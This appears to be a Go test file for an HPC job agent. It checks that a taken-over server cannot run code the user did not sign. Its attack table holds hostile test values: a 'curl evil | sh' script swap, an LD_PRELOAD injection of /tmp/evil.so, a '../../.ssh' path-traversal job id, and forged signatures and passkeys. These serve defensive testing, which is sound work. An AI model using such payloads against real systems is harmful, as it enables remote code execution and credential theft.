package agent

import (
	"bytes"
	"crypto/ed25519"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/hpcsera/hpcsera"
	"github.com/hpcsera/hpcsera/approval"
)

// hostLog is this host's log. It listens outside the bubble, since waiting for
// a socket would stop the bubble's time.
type hostLog struct {
	path  string
	mu    sync.Mutex
	lines []string
}

func newHostLog(t *testing.T) *hostLog {
	t.Helper()
	dir, err := os.MkdirTemp("", "log") // a socket's path is short
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	h := &hostLog{path: filepath.Join(dir, "s")}
	c, err := net.ListenUnixgram("unixgram", &net.UnixAddr{Name: h.path, Net: "unixgram"})
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for b := make([]byte, 1<<16); ; {
			n, err := c.Read(b)
			if err != nil {
				return
			}
			h.mu.Lock()
			h.lines = append(h.lines, string(b[:n]))
			h.mu.Unlock()
		}
	}()
	t.Cleanup(func() { c.Close(); <-done })
	return h
}

// has reports whether a line with all words was heard, at once or soon: it
// comes by way of the kernel.
func (h *hostLog) has(words ...string) bool {
	for end := time.Now().Add(5 * time.Second); time.Now().Before(end); time.Sleep(time.Millisecond) {
		h.mu.Lock()
		for _, line := range h.lines {
			if containsAll(line, words) {
				h.mu.Unlock()
				return true
			}
		}
		h.mu.Unlock()
	}
	return false
}

func containsAll(line string, words []string) bool {
	for _, word := range words {
		if !strings.Contains(line, word) {
			return false
		}
	}
	return true
}

// submits accepts a job whose program does well.
func (w *world) submits(c code) string {
	job := w.server.submit(c, false)
	w.planned(job, program{run: time.Minute})
	return job
}

// takenOver is an agent whose server is somebody else's.
type takenOver struct {
	*world
	code code   // as its user signed it
	job  string // of that code
}

// order changes what the server says of the job.
func (w *takenOver) order(change func(*hpcsera.OrderSpec)) {
	w.server.taken = func(a *hpcsera.WorkAnswer) {
		for _, o := range a.Orders {
			if o.Spec != nil {
				change(o.Spec)
			}
		}
	}
}

// swap has the server send other code, with the digest that belongs to it.
func (w *takenOver) swap(change func(*hpcsera.Manifest)) {
	m := w.plan(hpcsera.BatchStep)
	change(&m)
	w.order(func(o *hpcsera.OrderSpec) {
		o.Manifest, _ = m.Canonical()
		o.Digest = hpcsera.DigestOf(o.Manifest)
	})
}

// statement has the server send a statement that the user signed for something
// else, or before.
func (w *takenOver) statement(change func(*approval.Statement)) {
	other := w.signWith(w.signer, w.code.manifest, 10, change)
	w.order(func(o *hpcsera.OrderSpec) { o.Statement, o.Signature = other.spec.Statement, other.spec.Signature })
}

func (w *takenOver) text(old, new string) {
	w.order(func(o *hpcsera.OrderSpec) {
		text := bytes.Replace(o.Statement, []byte(old), []byte(new), 1)
		if bytes.Equal(text, o.Statement) {
			w.broken("nothing replaced: %s", old)
		}
		o.Statement = text
	})
}

func (w *takenOver) stranger() ssh.Signer {
	_, private, err := ed25519.GenerateKey(nil)
	if err != nil {
		w.t.Fatal(err)
	}
	s, err := ssh.NewSignerFromKey(private)
	if err != nil {
		w.t.Fatal(err)
	}
	return s
}

// assertion is a passkey of the attacker's own, at any page.
func assertion(t *testing.T, challenge []byte) string {
	t.Helper()
	public, private, err := ed25519.GenerateKey(nil)
	if err != nil {
		t.Fatal(err)
	}
	host := sha256.Sum256([]byte("server.example"))
	data := append(host[:], 0x05, 0, 0, 0, 1)
	client := fmt.Appendf(nil, `{"type":"webauthn.get","challenge":%q,"origin":"https://server.example"}`, base64.RawURLEncoding.EncodeToString(challenge))
	sum := sha256.Sum256(client)
	return approval.Assertion{
		Credential: []byte("c"), Key: append([]byte{0xa4, 1, 1, 3, 0x27, 0x20, 6, 0x21, 0x58, 0x20}, public...), ClientData: client, AuthenticatorData: data,
		Signature: ed25519.Sign(private, append(append([]byte{}, data...), sum[:]...)),
	}.String()
}

func TestATakenOverServerRunsNothingThatWasNotSigned(t *testing.T) {
	const b = hpcsera.BatchStep
	invalid, rejected := hpcsera.ApprovalInvalid, hpcsera.RejectedByPolicy
	for _, c := range []struct {
		name   string
		attack func(*takenOver)
		reason hpcsera.Reason
		say    string
		quiet  bool // an honest server could have sent it as well, so no alarm
	}{
		{"another script", func(w *takenOver) { w.swap(func(m *hpcsera.Manifest) { m.Steps[0].Script = "curl evil | sh" }) }, invalid, "the code is", false},
		{"another script under the signed digest", func(w *takenOver) {
			w.order(func(o *hpcsera.OrderSpec) {
				o.Manifest = bytes.Replace(o.Manifest, []byte(`"true"`), []byte(`"evil"`), 1)
			})
		}, invalid, "the order says", false},
		{"another environment", func(w *takenOver) {
			w.swap(func(m *hpcsera.Manifest) { m.Environment = map[string]string{"LD_PRELOAD": "/tmp/evil.so"} })
		}, invalid, "the code is", false},
		{"one more step", func(w *takenOver) {
			w.swap(func(m *hpcsera.Manifest) {
				m.Steps = append(m.Steps, hpcsera.Step{Name: "more", Type: hpcsera.LoginStep, Program: hpcsera.Program{Script: "evil"}})
			})
		}, invalid, "the code is", false},
		{"an unknown member of the code", func(w *takenOver) {
			w.order(func(o *hpcsera.OrderSpec) {
				o.Manifest = bytes.Replace(o.Manifest, []byte(`{`), []byte(`{"prolog":"evil",`), 1)
			})
		}, invalid, "prolog", false},
		{"values", func(w *takenOver) {
			w.order(func(o *hpcsera.OrderSpec) {
				o.Run.Values = hpcsera.Values{"LD_PRELOAD": json.RawMessage(`"/tmp/evil.so"`)}
			})
		}, rejected, "LD_PRELOAD", false},
		{"more nodes", func(w *takenOver) { w.order(func(o *hpcsera.OrderSpec) { o.Run.Resources.NodeCount = 1000 }) }, rejected, "signed limit", false},
		{"another queue", func(w *takenOver) { w.order(func(o *hpcsera.OrderSpec) { o.Run.Attributes.QueueName = "gpu" }) }, rejected, "queue", false},
		{"a field that this agent does not know", func(w *takenOver) { w.order(func(o *hpcsera.OrderSpec) { o.RunFault = "prolog: unknown" }) }, rejected, "prolog", true},
		{"another project", func(w *takenOver) { w.order(func(o *hpcsera.OrderSpec) { o.Project = "melt" }) }, invalid, "the project is melt", false},
		{"another user", func(w *takenOver) { w.order(func(o *hpcsera.OrderSpec) { o.User = "mallory" }) }, invalid, "the user is mallory", false},
		{"another site", func(w *takenOver) { w.order(func(o *hpcsera.OrderSpec) { o.Site = "hlrs" }) }, invalid, "the site is hlrs", false},
		{"a stranger as submitter", func(w *takenOver) { w.order(func(o *hpcsera.OrderSpec) { o.Submitter = "mallory" }) }, invalid, "submitter is mallory", false},

		{"no signature", func(w *takenOver) { w.order(func(o *hpcsera.OrderSpec) { o.Statement, o.Signature = nil, "" }) }, invalid, "no signed approval", false},
		{"its own signature", func(w *takenOver) {
			forged := w.signWith(w.stranger(), w.code.manifest, 10)
			w.order(func(o *hpcsera.OrderSpec) { o.Statement, o.Signature = forged.spec.Statement, forged.spec.Signature })
		}, invalid, "not in this agent's trust file", false},
		{"its own passkey", func(w *takenOver) {
			w.order(func(o *hpcsera.OrderSpec) { o.Signature = assertion(w.t, approval.Challenge(o.Statement)) })
		}, invalid, "not in this agent's trust file", false},
		{"a sign-in as consent", func(w *takenOver) {
			w.order(func(o *hpcsera.OrderSpec) { o.Signature = assertion(w.t, []byte("sign me in")) })
		}, invalid, "something else", false},
		{"the user's signature under other code", func(w *takenOver) {
			other := w.plan(b)
			other.Steps[0].Script = "evil"
			w.order(func(o *hpcsera.OrderSpec) {
				o.Manifest, _ = other.Canonical()
				o.Digest = hpcsera.DigestOf(o.Manifest)
				o.Statement = bytes.Replace(o.Statement, []byte(w.code.statement.Code), []byte(o.Digest), 1)
			})
		}, invalid, "does not belong", false},
		{"half a statement", func(w *takenOver) {
			w.order(func(o *hpcsera.OrderSpec) { o.Statement = o.Statement[:len(o.Statement)/2] })
		}, invalid, "does not belong", false},
		{"half a signature", func(w *takenOver) {
			w.order(func(o *hpcsera.OrderSpec) { o.Signature = o.Signature[:len(o.Signature)/2] })
		}, invalid, "not one armored", false},
		{"more runs", func(w *takenOver) { w.text(`"runs":10`, `"runs":99`) }, invalid, "does not belong", false},
		{"a later end", func(w *takenOver) { w.text(`"not_after":"2`, `"not_after":"3`) }, invalid, "does not belong", false},
		{"larger limits", func(w *takenOver) { w.text(`"node_count":1`, `"node_count":9`) }, invalid, "does not belong", false},
		{"a statement for another site", func(w *takenOver) { w.statement(func(s *approval.Statement) { s.Sites = []string{"hlrs"} }) }, invalid, "but what was signed is hlrs", false},
		{"a statement for another agent", func(w *takenOver) {
			w.statement(func(s *approval.Statement) { s.Agents = []string{strings.Repeat("A", 43)} })
		}, invalid, "the agent's key is", false},
		{"a statement for another user", func(w *takenOver) { w.statement(func(s *approval.Statement) { s.User = "bob" }) }, invalid, "but bob was signed", false},
		{"a statement for another project", func(w *takenOver) { w.statement(func(s *approval.Statement) { s.Project = "melt" }) }, invalid, "but melt was signed", false},
		{"a statement for another server", func(w *takenOver) {
			w.statement(func(s *approval.Statement) { s.Deployment = "http://other.example" })
		}, invalid, "but http://other.example was signed", false},
		{"a statement for other schemas", func(w *takenOver) {
			w.statement(func(s *approval.Statement) { s.Schema = "sha256:" + strings.Repeat("0", 64) })
		}, invalid, "parameter schemas", false},
		{"a statement that ended", func(w *takenOver) {
			w.statement(func(s *approval.Statement) {
				s.NotAfter = s.NotBefore.Add(time.Second)
			})
			time.Sleep(2 * time.Second)
		}, hpcsera.ApprovalExpired, "ended at", true},
		{"a statement that was withdrawn here", func(w *takenOver) {
			trust := string(w.read("real/state/trust.yaml"))
			w.file("real/state/trust.yaml", trust+"withdrawn:\n  approvals: ["+w.code.approval+"]\n")
		}, hpcsera.ApprovalWithdrawn, "was withdrawn on this site", true},
		{"a statement that was replaced", func(w *takenOver) {
			w.file("real/state/trust.replaced", "\n"+w.code.approval+" "+hpcsera.NewID("ap")+"\n")
		}, hpcsera.ApprovalWithdrawn, "was replaced", true},

		{"other bytes for a signed file", func(w *takenOver) {
			w.server.blobs["sha256:"+w.code.manifest.Files[0].SHA256] = []byte("evil!\n")
		}, hpcsera.StageInFailed, "sent other bytes", false},
		{"more bytes for a signed file", func(w *takenOver) {
			w.server.blobs["sha256:"+w.code.manifest.Files[0].SHA256] = []byte("input\nevil\n")
		}, hpcsera.StageInFailed, "sent more bytes", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			host := newHostLog(t)
			inWorld(t, 1, func(t *testing.T, w *world) {
				w.taken, w.syslog = true, host.path
				taken := &takenOver{world: w}
				m := w.plan(b)
				m.Files = []hpcsera.File{{Path: "input.txt", Mode: "0644", Size: 6, SHA256: fmt.Sprintf("%x", sha256.Sum256([]byte("input\n")))}}
				w.server.blobs["sha256:"+m.Files[0].SHA256] = []byte("input\n")
				taken.code = w.signWith(w.signer, m, 10)
				c.attack(taken)
				taken.job = w.server.submit(taken.code, false)
				w.start()
				if last := w.ends(taken.job, hpcsera.Failed, c.reason); !strings.Contains(last.Message, c.say) {
					t.Errorf("got the message %q, want it to contain %q", last.Message, c.say)
				}
				time.Sleep(time.Minute) // for what would still begin
				if ran := w.ran(taken.job); len(ran) > 0 {
					t.Errorf("it ran: %+v", ran)
				}
				if got := strings.Contains(w.log.String(), "ALARM"); got == c.quiet {
					t.Errorf("alarm in the agent's log: got %t, want %t", got, !c.quiet)
				}
			})
			if !c.quiet && !host.has("<33>", "hpcsera-agent[", "ALARM", "user=alice") {
				t.Errorf("this host's log heard %q, want an alarm", host.lines)
			}
		})
	}
}

// TestWhatWasSignedRunsUnderTheSameServer makes sure that the attacks above fail
// by what they change.
func TestWhatWasSignedRunsUnderTheSameServer(t *testing.T) {
	host := newHostLog(t)
	var job string
	var signed code
	var fingerprint string
	inWorld(t, 1, func(t *testing.T, w *world) {
		w.syslog = host.path
		m := w.plan(hpcsera.BatchStep)
		m.Files = []hpcsera.File{{Path: "input.txt", Mode: "0644", Size: 6, SHA256: fmt.Sprintf("%x", sha256.Sum256([]byte("input\n")))}}
		w.server.blobs["sha256:"+m.Files[0].SHA256] = []byte("input\n")
		signed = w.signWith(w.signer, m, 10)
		fingerprint = ssh.FingerprintSHA256(w.signer.PublicKey())
		job = w.submits(signed)
		w.start()
		w.ends(job, hpcsera.Succeeded, "")
	})
	if !host.has("<38>", "start user=alice", "job="+job, "code="+signed.spec.Digest, "approval="+signed.approval, "signer="+fingerprint, "trust=plain", "native=") {
		t.Errorf("this host's log heard %q, want the start with who, what and by whom", host.lines)
	}
}

func TestATakenOverServerCannotGoBack(t *testing.T) {
	attack := func(t *testing.T, say string, run func(*testing.T, *world, code)) {
		t.Helper()
		host := newHostLog(t)
		inWorld(t, 2, func(t *testing.T, w *world) {
			w.taken, w.syslog = true, host.path
			run(t, w, w.sign(10, hpcsera.BatchStep))
			if !strings.Contains(w.log.String(), "ALARM") {
				t.Error("no alarm in the agent's log")
			}
		})
		if !host.has("<33>", say) {
			t.Errorf("this host's log heard %q, want an alarm with %q", host.lines, say)
		}
	}
	t.Run("to an older epoch", func(t *testing.T) {
		attack(t, "epoch went back", func(t *testing.T, w *world, c code) {
			first := w.submits(c)
			w.start()
			w.ends(first, hpcsera.Succeeded, "")
			w.server.mu.Lock()
			w.server.taken = func(a *hpcsera.WorkAnswer) { a.Epoch = 0 }
			w.server.mu.Unlock()
			second := w.server.submit(c, false)
			time.Sleep(10 * time.Minute)
			if ran := w.ran(second); len(ran) > 0 {
				t.Errorf("it ran: %+v", ran)
			}
		})
	})
	t.Run("to what the user had ordered before", func(t *testing.T) {
		attack(t, "older than what the server ordered before", func(t *testing.T, w *world, c code) {
			job := w.server.submit(c, false)
			w.batch.tune(func(f *clusterFaults) { f.queue = 0 })
			w.planned(job, program{run: time.Hour})
			w.start()
			w.until("it runs", time.Hour, func() bool { return len(w.ran(job)) > 0 })
			w.server.mu.Lock()
			w.server.taken = func(a *hpcsera.WorkAnswer) {
				a.Orders = append(a.Orders, hpcsera.Order{JobID: job, Attempt: 1, Revision: 0, Desired: hpcsera.DesiredHold})
			}
			w.server.mu.Unlock()
			w.until("the alarm", time.Hour, func() bool { return strings.Contains(w.log.String(), "ALARM") })
		})
	})
	t.Run("and call other code by the same name", func(t *testing.T) {
		attack(t, "another job under the same id", func(t *testing.T, w *world, c code) {
			job := w.server.submit(c, false)
			w.planned(job, program{run: time.Hour})
			w.start()
			w.until("it is queued", time.Hour, func() bool { return w.server.state(job) == hpcsera.Queued || len(w.ran(job)) > 0 })
			other := w.sign(10, hpcsera.BatchStep, hpcsera.BatchStep).spec
			w.server.mu.Lock()
			w.server.taken = func(a *hpcsera.WorkAnswer) {
				a.Orders = append(a.Orders, hpcsera.Order{JobID: job, Attempt: 1, Revision: 7, Desired: hpcsera.DesiredRun, Spec: &other})
			}
			w.server.mu.Unlock()
			w.until("the alarm", time.Hour, func() bool { return strings.Contains(w.log.String(), "ALARM") })
			w.ends(job, hpcsera.Succeeded, "")
			if ran := w.ran(job); len(ran) != 1 {
				t.Errorf("it ran %d times, want the one signed step", len(ran))
			}
		})
	})
	t.Run("nor name what is no job", func(t *testing.T) {
		attack(t, "not a job id", func(t *testing.T, w *world, c code) {
			w.server.taken = func(a *hpcsera.WorkAnswer) {
				a.Orders = append(a.Orders, hpcsera.Order{JobID: "../../.ssh", Attempt: 1, Revision: 1, Desired: hpcsera.DesiredRun, Spec: &c.spec})
			}
			w.start()
			w.until("the alarm", time.Hour, func() bool { return strings.Contains(w.log.String(), "ALARM") })
		})
	})
}
